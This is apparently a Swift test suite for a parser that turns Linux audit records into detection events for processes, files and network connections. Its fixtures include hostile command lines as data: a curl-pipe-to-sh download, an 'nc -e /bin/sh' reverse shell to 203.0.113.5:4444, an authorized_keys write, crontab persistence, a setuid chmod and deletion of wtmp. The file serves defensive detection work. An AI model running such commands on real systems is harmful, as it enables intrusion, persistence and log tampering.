import Foundation
import Journal
import Testing
@testable import Parse

@Suite struct AuditAssemblyTests {
    typealias R = AuditRecords

    @Test func execveBecomesProcessCreationAtItsProcessTitle() {
        let lines = R.execve(serial: 10, pid: 1001, ppid: 1000, exe: "/usr/bin/curl", arguments: ["curl", "http://x"])
        let (events, _) = assemble(R.entries(lines), kinds: [.processCreation], flush: false)
        #expect(events.count == 1)
        let event = events[0]
        #expect(event.kind == .processCreation)
        #expect(event.text("Image") == "/usr/bin/curl")
        #expect(event.text("CommandLine") == "curl http://x")
        #expect(event.text("CurrentDirectory") == "/root")
        #expect(event.text("User") == "0")  // no host lookup in this test: the uid stays a number
        #expect(event.text("uid") == "0")
        #expect(event.text("auid") == "1000")
        #expect(event.text("LogonId") == "3")
        #expect(event.text("ProcessId") == "1001")
        #expect(event.text("ParentProcessId") == "1000")
        #expect(event.text("ParentImage") == nil)
        #expect(event.text("_TRANSPORT") == "audit")
        #expect(event.text("_HOSTNAME") == "host1")
        #expect(event.text("key") == "exec")
        // The evidence is the SYSCALL record, the event's first.
        #expect(event.cursor.rawValue == "s=test;i=1")
        #expect(event.event.entry.realtime == 1_764_151_200_100_000)
    }

    @Test func parentComesFromAnEarlierExecveOfThePpid() {
        let lines = R.execve(serial: 10, pid: 2000, ppid: 1000, exe: "/usr/bin/bash", arguments: ["bash", "-c", "curl http://x | sh"])
            + R.execve(serial: 11, pid: 2001, ppid: 2000, exe: "/usr/bin/curl", arguments: ["curl", "http://x"])
            + R.execve(serial: 12, pid: 2002, ppid: 2000, exe: "/usr/bin/dash", arguments: ["sh"])
        let (events, assembly) = assemble(R.entries(lines), kinds: [.processCreation])
        #expect(events.map { $0.text("Image") } == ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/dash"])
        #expect(events[0].text("CommandLine") == "bash -c curl http://x | sh")
        #expect(events[1].text("ParentImage") == "/usr/bin/bash")
        #expect(events[2].text("ParentImage") == "/usr/bin/bash")
        #expect(events[2].text("ParentCommandLine") == "bash -c curl http://x | sh")
        #expect(assembly.statistics.parentsFound == 2)
    }

    @Test func interleavedEventsAreAssembledApart() {
        let first = R.execve(serial: 20, pid: 3000, ppid: 1, exe: "/usr/bin/id", arguments: ["id", "-u"], cwd: "/tmp")
        let second = R.execve(serial: 21, pid: 3100, ppid: 1, exe: "/usr/bin/whoami", arguments: ["whoami"], cwd: "/home/eve")
        var mixed: [String] = []
        for index in 0..<max(first.count, second.count) {
            if index < first.count { mixed.append(first[index]) }
            if index < second.count { mixed.append(second[index]) }
        }
        let (events, _) = assemble(R.entries(mixed), kinds: [.processCreation], flush: false)
        #expect(events.count == 2)
        let byImage = Dictionary(uniqueKeysWithValues: events.map { ($0.text("Image")!, $0) })
        #expect(byImage["/usr/bin/id"]?.text("CommandLine") == "id -u")
        #expect(byImage["/usr/bin/id"]?.text("CurrentDirectory") == "/tmp")
        #expect(byImage["/usr/bin/whoami"]?.text("CommandLine") == "whoami")
        #expect(byImage["/usr/bin/whoami"]?.text("CurrentDirectory") == "/home/eve")
    }

    @Test func lostExecveRecordFallsBackToTheProcessTitle() {
        var lines = R.execve(serial: 30, pid: 4000, ppid: 1, exe: "/usr/bin/nc", arguments: ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"])
        lines.remove(at: 1)  // EXECVE
        let (events, _) = assemble(R.entries(lines), kinds: [.processCreation])
        #expect(events.count == 1)
        #expect(events[0].text("Image") == "/usr/bin/nc")
        #expect(events[0].text("CommandLine") == "nc -e /bin/sh 203.0.113.5 4444")
    }

    @Test func lostSyscallRecordTakesTheImageFromThePath() {
        var lines = R.execve(serial: 31, pid: 4001, ppid: 1, exe: "/usr/bin/nc", arguments: ["nc", "-lvp", "4444"])
        lines.removeFirst()  // SYSCALL
        let (events, _) = assemble(R.entries(lines), kinds: [.processCreation])
        #expect(events.count == 1)
        #expect(events[0].text("Image") == "/usr/bin/nc")
        #expect(events[0].text("CommandLine") == "nc -lvp 4444")
        #expect(events[0].text("User") == nil)
    }

    @Test func tenThousandArgumentsSplitOverRecordsAreJoined() {
        let stamp = "msg=audit(1764151200.200:40):"
        let count = 10_000
        var records: [String] = []
        var body = "argc=\(count)"
        for index in 0..<count {
            let item = " a\(index)=\"x\(index)\""
            if body.utf8.count + item.utf8.count > 7500 {
                records.append("type=EXECVE \(stamp) " + body.dropFirst(body.hasPrefix(" ") ? 1 : 0))
                body = ""
            }
            body += item
        }
        records.append("type=EXECVE \(stamp)" + body)
        let lines = ["type=SYSCALL \(stamp) arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=5000 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"echo\" exe=\"/usr/bin/echo\" key=(null)"]
            + records + ["type=CWD \(stamp) cwd=\"/\"", "type=PROCTITLE \(stamp) proctitle=\(R.hex("echo"))"]
        #expect(records.count > 10)
        let (events, _) = assemble(R.entries(lines), kinds: [.processCreation])
        #expect(events.count == 1)
        let words = events[0].text("CommandLine")!.split(separator: " ")
        #expect(words.count == count)
        #expect(words.first == "x0")
        #expect(words.last == "x9999")
        #expect(words == (0..<count).map { "x\($0)"[...] })
    }

    @Test func longArgumentSplitAcrossRecordsIsJoined() {
        let stamp = "msg=audit(1764151200.300:41):"
        let long = String(repeating: "A", count: 12_000)
        let hex = R.hex(long)
        let lines = [
            "type=SYSCALL \(stamp) arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=5001 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"printf\" exe=\"/usr/bin/printf\" key=(null)",
            "type=EXECVE \(stamp) argc=3 a0=\"printf\" a1_len=12000 a1[0]=\(hex.prefix(7000))",
            "type=EXECVE \(stamp) a1[1]=\(hex.dropFirst(7000).prefix(7000)) ",
            "type=EXECVE \(stamp) a1[2]=\(hex.dropFirst(14000)) a2=\"end\"",
            "type=PROCTITLE \(stamp) proctitle=\(R.hex("printf"))",
        ]
        let (events, _) = assemble(R.entries(lines), kinds: [.processCreation])
        #expect(events.first?.text("CommandLine") == "printf \(long) end")
    }

    @Test func oddArgumentsAreDecodedByteForByte() {
        let odd: [[UInt8]] = [Array("printf".utf8), Array("two words".utf8), Array("say \"hi\" 'there'".utf8),
                              Array("line1\nline2".utf8), [0x66, 0xff, 0xfe, 0x6f], []]
        let stamp = "msg=audit(1764151200.400:42):"
        let arguments = odd.enumerated().map { index, bytes in "a\(index)=" + (bytes.isEmpty ? "\"\"" : index == 0 ? "\"printf\"" : R.hex(bytes)) }
        let lines = [
            "type=SYSCALL \(stamp) arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=5002 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"printf\" exe=\"/usr/bin/printf\" key=(null)",
            "type=EXECVE \(stamp) argc=\(odd.count) " + arguments.joined(separator: " "),
            "type=PROCTITLE \(stamp) proctitle=\(R.hex("printf"))",
        ]
        let (events, _) = assemble(R.entries(lines), kinds: [.processCreation])
        let expected = Array(odd.joined(separator: [UInt8(ascii: " ")]))
        #expect(events.first.flatMap { $0.event.value(of: "CommandLine").map(Array.init) } == expected)
    }

    @Test func reusedPidNamesTheLatestProcess() {
        let lines = R.execve(serial: 50, time: "1764151200.100", pid: 5000, ppid: 1, exe: "/usr/bin/python3", arguments: ["python3", "app.py"])
            + R.execve(serial: 51, time: "1764151200.200", pid: 5001, ppid: 5000, exe: "/usr/bin/ls", arguments: ["ls"])
            + R.execve(serial: 60, time: "1764151300.100", pid: 5000, ppid: 1, exe: "/usr/bin/nc", arguments: ["nc", "-l", "4444"])
            + R.execve(serial: 61, time: "1764151300.200", pid: 5002, ppid: 5000, exe: "/usr/bin/sh", arguments: ["sh"])
        let (events, _) = assemble(R.entries(lines), kinds: [.processCreation])
        #expect(events.count == 4)
        #expect(events[1].text("ParentImage") == "/usr/bin/python3")
        #expect(events[3].text("ParentImage") == "/usr/bin/nc")
        #expect(events[3].text("ParentCommandLine") == "nc -l 4444")
    }

    @Test func theProcessTableIsBounded() {
        var options = AssemblyOptions()
        options.processTableCapacity = 2
        let lines = (0..<4).flatMap { R.execve(serial: 70 + $0, pid: 6000 + $0, ppid: 1, exe: "/usr/bin/true", arguments: ["true"]) }
            + R.execve(serial: 80, pid: 6100, ppid: 6000, exe: "/usr/bin/id", arguments: ["id"])
            + R.execve(serial: 81, pid: 6101, ppid: 6003, exe: "/usr/bin/id", arguments: ["id"])
        let (events, assembly) = assemble(R.entries(lines), kinds: [.processCreation], options: options)
        #expect(events[4].text("ParentImage") == nil)  // pid 6000 was forgotten
        // 6000 and 6001 made room for 6002 and 6003, 6002 for 6100: 6003 is still known.
        #expect(events[5].text("ParentImage") == "/usr/bin/true")
        #expect(assembly.statistics.processTableEvictions == 4)  // and 6101 pushed out 6003
    }

    @Test func eventsInFlightAreBounded() {
        var options = AssemblyOptions()
        options.maximumPendingEvents = 2
        // Three events without their PROCTITLE records, from different processes.
        let lines = (0..<3).flatMap { Array(R.execve(serial: 90 + $0, pid: 7000 + $0, ppid: 1, exe: "/usr/bin/true", arguments: ["true"]).dropLast()) }
        let (events, assembly) = assemble(R.entries(lines), kinds: [.processCreation], options: options, flush: false)
        #expect(events.count == 1)
        #expect(assembly.statistics.auditEventsCompletedEarly == 1)
        #expect(events[0].text("ProcessId") == "7000")
    }

    @Test func anEventWithoutProcessTitleCompletesAfterTheTimeoutInEntryTime() {
        let event = Array(R.execve(serial: 100, time: "1764151200.000", pid: 8000, ppid: 1, exe: "/usr/bin/true", arguments: ["true"]).dropLast())
        let soon = R.execve(serial: 101, time: "1764151200.500", pid: 8001, ppid: 1, exe: "/usr/bin/id", arguments: ["id"])[0]
        let late = R.execve(serial: 102, time: "1764151201.200", pid: 8002, ppid: 1, exe: "/usr/bin/id", arguments: ["id"])[0]
        let (beforeTimeout, _) = assemble(R.entries(event + [soon]), kinds: [.processCreation], flush: false)
        #expect(beforeTimeout.isEmpty)
        let (afterTimeout, _) = assemble(R.entries(event + [soon, late]), kinds: [.processCreation], flush: false)
        #expect(afterTimeout.map { $0.text("ProcessId") } == ["8000"])
    }

    @Test func theSameProcessStartingAnotherSyscallCompletesItsEarlierEvent() {
        let event = Array(R.execve(serial: 110, pid: 9000, ppid: 1, exe: "/usr/bin/true", arguments: ["true"]).dropLast())
        let next = R.execve(serial: 111, pid: 9000, ppid: 1, exe: "/usr/bin/id", arguments: ["id"])[0]
        let (events, _) = assemble(R.entries(event + [next]), kinds: [.processCreation], flush: false)
        #expect(events.map { $0.text("Image") } == ["/usr/bin/true"])
    }

    @Test func userSpaceRecordsAreEventsOfTheirOwn() {
        let line = "type=ADD_USER msg=audit(1764151200.500:120): pid=777 uid=0 auid=1000 ses=3 subj=unconfined msg='op=adding user id=1001 exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'"
        let (events, _) = assemble(R.entries([line]), kinds: [.auditRecord], flush: false)
        #expect(events.count == 1)
        #expect(events[0].kind == .auditRecord)
        #expect(events[0].text("type") == "ADD_USER")
        #expect(events[0].text("exe") == "/usr/sbin/useradd")
    }

    @Test func recordViewsSeeTheirOwnFieldsThenTheEventsSyscallCwdAndTitle() {
        let lines = R.execve(serial: 130, pid: 9100, ppid: 1, exe: "/usr/bin/chmod", arguments: ["chmod", "u+s", "/tmp/x"], cwd: "/var/opt/x")
        let (events, _) = assemble(R.entries(lines), kinds: [.auditRecord])
        #expect(events.count == lines.count)
        #expect(Set(events.map(\.group)).count == 1)
        let execve = events[1]
        #expect(execve.text("type") == "EXECVE")
        #expect(execve.text("a0") == "chmod")  // its own a0, not the SYSCALL record's number
        #expect(execve.text("a1") == "u+s")
        #expect(execve.text("exe") == "/usr/bin/chmod")
        #expect(execve.text("cwd") == "/var/opt/x")
        #expect(execve.text("SYSCALL") == "execve")
        #expect(execve.cursor.rawValue == "s=test;i=2")
        let syscall = events[0]
        #expect(syscall.text("type") == "SYSCALL")
        #expect(syscall.text("a0") == "55d0c1a2b3c0")
        #expect(syscall.text("cwd") == "/var/opt/x")
    }

    @Test func fileWritesBecomeFileEventsWithAbsoluteNames() {
        let stamp = "msg=audit(1764151200.600:140):"
        // openat(AT_FDCWD, "authorized_keys", O_WRONLY|O_CREAT|O_APPEND) from /root/.ssh
        let write = [
            "type=SYSCALL \(stamp) arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55d0c1a2b3c0 a2=441 a3=1b6 items=2 ppid=1000 pid=1001 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"bash\" exe=\"/usr/bin/bash\" subj=unconfined key=\"sshd\"",
            "type=CWD \(stamp) cwd=\"/root/.ssh\"",
            "type=PATH \(stamp) item=0 name=\"./\" inode=2 dev=08:01 mode=040700 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            "type=PATH \(stamp) item=1 name=\"authorized_keys\" inode=3 dev=08:01 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            "type=PROCTITLE \(stamp) proctitle=2D62617368",
        ]
        let (events, _) = assemble(R.entries(write), kinds: [.fileEvent])
        #expect(events.count == 1)
        #expect(events.first?.text("TargetFilename") == "/root/.ssh/authorized_keys")
        #expect(events.first?.text("Image") == "/usr/bin/bash")
        #expect(events.first?.text("User") == "0")
        // The same open read-only (flags 0) is no file event.
        let read = write.map { $0.replacingOccurrences(of: "a2=441", with: "a2=0") }
        #expect(assemble(R.entries(read), kinds: [.fileEvent]).events.isEmpty)
    }

    @Test func renameTargetsTheCreatedName() {
        let stamp = "msg=audit(1764151200.700:150):"
        let lines = [
            "type=SYSCALL \(stamp) arch=c000003e syscall=82 success=yes exit=0 a0=1 a1=2 a2=0 a3=0 items=4 ppid=1 pid=1100 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"crontab\" exe=\"/usr/bin/crontab\" key=\"cron\"",
            "type=PATH \(stamp) item=0 name=\"/var/spool/cron/crontabs/\" inode=1 dev=08:01 mode=041730 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "type=PATH \(stamp) item=1 name=\"/var/spool/cron/crontabs/\" inode=1 dev=08:01 mode=041730 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "type=PATH \(stamp) item=2 name=\"/var/spool/cron/crontabs/tmp.X1\" inode=5 dev=08:01 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=DELETE",
            "type=PATH \(stamp) item=3 name=\"/var/spool/cron/crontabs/root\" inode=5 dev=08:01 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=CREATE",
            "type=PROCTITLE \(stamp) proctitle=\(R.hex("crontab\0-e"))",
        ]
        let (events, _) = assemble(R.entries(lines), kinds: [.fileEvent, .fileDelete])
        #expect(events.map(\.kind) == [.fileEvent])
        #expect(events.first?.text("TargetFilename") == "/var/spool/cron/crontabs/root")
    }

    @Test func unlinkBecomesFileDelete() {
        let stamp = "msg=audit(1764151200.800:160):"
        let lines = [
            "type=SYSCALL \(stamp) arch=c000003e syscall=263 success=yes exit=0 a0=ffffff9c a1=2 a2=0 a3=0 items=2 ppid=1 pid=1200 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"rm\" exe=\"/usr/bin/rm\" key=(null)",
            "type=CWD \(stamp) cwd=\"/var/log\"",
            "type=PATH \(stamp) item=0 name=\"/var/log/\" inode=1 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "type=PATH \(stamp) item=1 name=\"wtmp\" inode=5 dev=08:01 mode=0100664 ouid=0 ogid=43 rdev=00:00 nametype=DELETE",
            "type=PROCTITLE \(stamp) proctitle=\(R.hex("rm\0wtmp"))",
        ]
        let (events, _) = assemble(R.entries(lines), kinds: [.fileEvent, .fileDelete])
        #expect(events.map(\.kind) == [.fileDelete])
        #expect(events.first?.text("TargetFilename") == "/var/log/wtmp")
    }

    @Test func connectBecomesNetworkConnection() {
        func connect(_ saddr: String, serial: Int, exit: String = "0", success: String = "yes") -> [String] {
            let stamp = "msg=audit(1764151200.900:\(serial)):"
            return [
                "type=SYSCALL \(stamp) arch=c000003e syscall=42 success=\(success) exit=\(exit) a0=3 a1=7ffd1 a2=10 a3=0 items=0 ppid=1000 pid=1300 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"net\"",
                "type=SOCKADDR \(stamp) saddr=\(saddr)",
                "type=PROCTITLE \(stamp) proctitle=\(R.hex("bash"))",
            ]
        }
        // AF_INET 203.0.113.5:4444
        let inet = connect("0200115CCB007105" + "0000000000000000", serial: 170)
        // AF_INET6 [2001:db8::7]:443, non-blocking (EINPROGRESS)
        let inet6 = connect("0A0001BB00000000" + "20010DB8000000000000000000000007" + "00000000", serial: 171, exit: "-115", success: "no")
        // AF_UNIX /run/x: not a network connection
        let unix = connect("01002F72756E2F78", serial: 172)
        let (events, _) = assemble(R.entries(inet + inet6 + unix), kinds: [.networkConnection])
        #expect(events.count == 2)
        #expect(events[0].text("DestinationIp") == "203.0.113.5")
        #expect(events[0].text("DestinationPort") == "4444")
        #expect(events[0].text("Initiated") == "true")
        #expect(events[0].text("DestinationIsIpv6") == "false")
        #expect(events[0].text("Image") == "/usr/bin/bash")
        #expect(events[1].text("DestinationIp") == "2001:db8::7")
        #expect(events[1].text("DestinationPort") == "443")
        #expect(events[1].text("DestinationIsIpv6") == "true")
    }

    @Test func recordsOfOneEventAreBounded() {
        var options = AssemblyOptions()
        options.maximumRecordsPerEvent = 3
        let lines = R.execve(serial: 180, pid: 9200, ppid: 1, exe: "/usr/bin/true", arguments: ["true"])
        let (events, assembly) = assemble(R.entries(lines), kinds: [.auditRecord], options: options)
        // Three records kept; the rest dropped, though the PROCTITLE record still closes the event.
        #expect(events.count == 3)
        #expect(assembly.statistics.auditRecordsDropped == lines.count - 3)
    }

    @Test func onlyTheKindsAskedForAreMade() {
        let lines = R.execve(serial: 190, pid: 9300, ppid: 1, exe: "/usr/bin/true", arguments: ["true"])
        #expect(assemble(R.entries(lines), kinds: [.networkConnection]).events.isEmpty)
        #expect(assemble(R.entries(lines), kinds: []).events.isEmpty)
    }
}

extension AuditAssemblyTests {
    @Test func aarch64SyscallNumbersAreNamedForTheirArchitecture() {
        // aarch64 (arch=c00000b7): execve is 221, connect 203; 59 and 42 are other calls there.
        let exec = R.execve(serial: 200, pid: 9400, ppid: 1, exe: "/usr/bin/uname", arguments: ["uname", "-a"])
            .map { $0.replacingOccurrences(of: "arch=c000003e syscall=59", with: "arch=c00000b7 syscall=221") }
        let stamp = "msg=audit(1764151200.950:201):"
        let connect = [
            "type=SYSCALL \(stamp) arch=c00000b7 syscall=203 success=yes exit=0 a0=3 a1=7ffd1 a2=10 a3=0 items=0 ppid=1 pid=9401 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"nc\" exe=\"/usr/bin/nc\" key=(null)",
            "type=SOCKADDR \(stamp) saddr=0200115CCB0071050000000000000000",
            "type=PROCTITLE \(stamp) proctitle=\(R.hex("nc"))",
        ]
        let (events, _) = assemble(R.entries(exec + connect), kinds: [.processCreation, .networkConnection])
        #expect(events.map(\.kind) == [.processCreation, .networkConnection])
        #expect(events.first?.text("Image") == "/usr/bin/uname")
        #expect(events.last?.text("DestinationIp") == "203.0.113.5")
        // The x86_64 numbers on aarch64 are not execve/connect: 59 is pipe2 there.
        let misread = R.execve(serial: 202, pid: 9402, ppid: 1, exe: "/usr/bin/id", arguments: ["id"])
            .map { $0.replacingOccurrences(of: "arch=c000003e", with: "arch=c00000b7") }
            .filter { !$0.hasPrefix("type=EXECVE") }
        #expect(assemble(R.entries(misread), kinds: [.processCreation]).events.isEmpty)
    }
}

extension AuditAssemblyTests {
    @Test func bytesInFlightAreBounded() {
        var options = AssemblyOptions()
        options.maximumPendingBytes = 1500
        // Events without their PROCTITLE, each record a few hundred bytes.
        let lines = (0..<4).flatMap { Array(R.execve(serial: 210 + $0, pid: 9500 + $0, ppid: 1, exe: "/usr/bin/true", arguments: ["true"]).dropLast()) }
        let (events, assembly) = assemble(R.entries(lines), kinds: [.processCreation], options: options, flush: false)
        #expect(!events.isEmpty)
        #expect(assembly.statistics.auditEventsCompletedEarly == events.count)
        #expect(events.first?.text("ProcessId") == "9500")
    }
}
